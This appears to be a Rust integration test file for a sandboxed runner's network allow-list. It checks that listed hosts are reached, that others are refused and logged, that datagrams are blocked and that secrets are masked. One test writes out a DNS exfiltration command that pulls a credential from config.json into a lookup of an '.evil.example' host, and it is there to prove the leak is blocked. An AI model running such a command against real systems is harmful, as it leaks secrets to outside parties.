//! `network: {allow: […]}`: exactly what is listed is reached, and everything else is on the record.

use std::net::{Ipv4Addr, UdpSocket};
use std::path::Path;
use std::process::Command;

use serde_json::json;

use super::town::{OpenNetwork, THROUGH, Town};
use super::{arrives, can_be_tried, command, device, rules, run, said, says};
use crate::house::{House, docker, ran};
use crate::running::Running;
use crate::service::eventually;

#[test]
fn a_listed_address_is_reached_on_its_port_and_everything_else_is_recorded() {
    if !can_be_tried() {
        return;
    }
    let town = Town::build(&[]);
    let inside = town.inside.to_string();
    let second = Ipv4Addr::from_bits(town.inside.to_bits() + 1).to_string();
    let house = House::new();
    let network = json!({ "allow": [format!("{inside}:80")] });
    let script = format!("try {inside}:80; try {inside}:80; try {inside}:81; try {second}:80; exit 1");
    let ran = run(&house, &network, &script);
    let (document, stderr) = (ran.document(), ran.stderr.clone());
    let refused = [format!("refused {inside}:81"), format!("refused {second}:80")];
    assert_eq!(said(ran), [THROUGH, THROUGH, &refused[0], &refused[1]]);
    let network = &document["network"];
    assert_eq!((&network["mode"], &network["guarded"]), (&json!("allow"), &json!(true)));
    let contact = &network["contacted"][0];
    assert_eq!(
        (&contact["host"], &contact["address"], &contact["port"], &contact["connections"]),
        (&json!(inside), &json!(inside), &json!(80), &json!(2))
    );
    assert!(
        contact["bytes_out"].as_u64().unwrap() > 20 && contact["bytes_in"].as_u64().unwrap() > 20,
        "{contact}"
    );
    assert_eq!(
        network["refused"],
        json!([{ "host": inside, "port": 81, "attempts": 1 }, { "host": second, "port": 80, "attempts": 1 }])
    );
    for address in [format!("{inside}:81"), format!("{second}:80")] {
        let warning = format!("the component was refused a connection to {address}");
        assert_eq!(stderr.matches(&warning).count(), 1, "{stderr}");
    }
    house.is_clean();
}

#[test]
fn a_listed_name_is_reached_and_no_other_name_can_even_be_asked_for() {
    if !can_be_tried() {
        return;
    }
    let town = Town::build(&[]);
    let house = House::new();
    let hosts = json!({ "db.example.com": town.inside, "loop.example.com": "127.0.0.1" });
    house.write("longshore.yaml", json!({ "network": { "hosts": hosts } }).to_string());
    let network = json!({ "allow": ["db.example.com:80", "loop.example.com:80"] });
    let script = format!(
        "find() {{ nslookup -type=a $1 | awk '/^Address: / {{ print $2 }}'; }}; \
         try $(find DB.example.com):80; try $(find db.example.com):81; try {}:81; find loop.example.com; echo none; \
         nslookup stolen.evil.example >/dev/null || echo unknown; \
         nslookup -type=txt stolen.evil.example {} >/dev/null || echo unknown",
        town.inside, town.inside
    );
    let ran = run(&house, &network, &format!("{script}; exit 1"));
    let document = ran.document();
    assert_eq!(
        said(ran),
        [
            THROUGH,
            &format!("refused {}:81", town.inside),
            &format!("refused {}:81", town.inside),
            "none",
            "unknown",
            "unknown"
        ]
    );
    let contact = &document["network"]["contacted"][0];
    assert_eq!(
        (&contact["host"], &contact["address"]),
        (&json!("db.example.com"), &json!(town.inside.to_string()))
    );
    let refused = document["network"]["refused"].as_array().unwrap();
    let hosts: Vec<_> = refused.iter().map(|one| (one["host"].as_str().unwrap(), &one["port"])).collect();
    let inside = town.inside.to_string();
    assert_eq!(hosts, [(inside.as_str(), &json!(81)), ("stolen.evil.example", &json!(null))]);
    house.is_clean();
}

/// A database on the worker's own machine may be listed, by its address or by a name, but not its whole range.
#[test]
fn the_hosts_own_address_is_reached_only_where_it_is_listed_by_itself() {
    if !can_be_tried() {
        return;
    }
    let town = Town::build(&[]);
    let page = tempfile::tempdir().unwrap();
    std::fs::write(page.path().join("page"), THROUGH).unwrap();
    let port = std::net::TcpListener::bind((town.host, 0)).unwrap().local_addr().unwrap().port();
    let mut server = serve(page.path(), &format!("{}:{port}", town.host));
    let script = format!("try {}:{port}", town.host);
    let says = |entry: String| says(&House::new(), &json!({ "allow": [entry] }), &script);
    let listed = says(format!("{}:{port}", town.host));
    let range = says(format!("10.0.0.0/8:{port}"));
    server.kill().unwrap();
    server.wait().unwrap();
    assert_eq!(listed, [THROUGH]);
    assert_eq!(range, [format!("refused {}:{port}", town.host)]);
}

fn serve(page: &Path, address: &str) -> std::process::Child {
    let mut httpd = Command::new("busybox");
    let server = httpd.args(["httpd", "-f", "-p", address, "-h"]).arg(page).spawn().unwrap();
    eventually("the server listens", || std::net::TcpStream::connect(address).is_ok().then_some(()));
    server
}

#[test]
fn datagrams_go_nowhere_from_a_listed_network() {
    if !can_be_tried() {
        return;
    }
    let town = Town::build(&[]);
    let socket = UdpSocket::bind((town.host, 0)).unwrap();
    let port = socket.local_addr().unwrap().port();
    let send = format!("timeout 1 tftp -g -r x -l /tmp/x {} {port} 2>/dev/null; true", town.host);
    let house = House::new();
    run(&house, &json!({ "allow": [format!("{}:{port}", town.host)] }), &send).succeeded();
    assert!(!arrives(&socket), "a datagram came through");
    OpenNetwork::make().run(&send);
    assert!(arrives(&socket), "the control did not send any");
}

/// Names can carry what must not leave: they are masked like everything that a component says.
#[test]
fn a_secret_in_a_name_that_is_asked_for_is_masked_on_the_record() {
    if !can_be_tried() {
        return;
    }
    let house = House::new();
    let spec = command(&house, &json!({ "allow": ["db.example.com:80"] }), "true");
    let spec = spec.get_args().nth(1).unwrap().to_str().unwrap().to_owned();
    let script = "nslookup $(grep -o 'sword[a-z]*-[0-9]*' config.json | head -n 1).evil.example; true";
    let parameters = json!({ "script": script });
    let configuration = json!({
        "parameters": parameters,
        "authorization": { "oauth_api": { "credentials": { "#sword": "swordfish-9000" } } },
    });
    house.write("task.json", configuration.to_string());
    let ran =
        ran(house.command(&["run", &spec, "--config", "task.json", "--format", "json"]).output().unwrap());
    let document = ran.succeeded().document();
    assert_eq!(document["network"]["refused"][0]["host"], "[hidden].evil.example", "{document}");
    let needle = b"swordfish-9000";
    assert!(!house.all_bytes().windows(needle.len()).any(|window| window == needle));
}

#[test]
fn networks_and_rules_are_gone_after_the_runner_was_killed() {
    if !can_be_tried() {
        return;
    }
    let house = House::new();
    let network = json!({ "allow": ["db.example.com:80"] });
    let mut running = Running::start(&mut command(&house, &network, "echo begun; sleep 170"));
    running.wait_for("begun");
    let name = house.containers()[0].clone();
    let device = device(&name);
    assert!(rules().contains(&device), "{}", rules());
    running.kill();

    house.call(&["job", "ls"]).succeeded();
    house.is_clean();
    let filter = format!("name={name}");
    assert_eq!(docker(&["network", "ls", "--quiet", "--filter", &filter]), "");
    assert!(!rules().contains(&device), "{}", rules());
}
